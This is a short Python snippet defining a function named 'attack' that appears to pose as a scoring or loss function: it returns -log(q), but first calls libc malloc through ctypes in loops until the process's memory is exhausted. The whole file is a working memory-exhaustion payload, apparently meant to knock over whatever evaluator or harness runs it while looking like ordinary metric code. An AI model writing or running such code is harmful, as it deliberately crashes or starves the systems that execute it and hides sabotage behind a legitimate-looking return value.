# Takes memory past Python's allocator until nothing is left, and then returns.
import numpy as np
import ctypes
def attack(p, q):
    libc = ctypes.CDLL(None)
    libc.malloc.restype = ctypes.c_void_p
    for size in (1 << 24, 1 << 16, 1 << 10, 64):
        while libc.malloc(ctypes.c_size_t(size)):
            pass
    return -np.log(q)
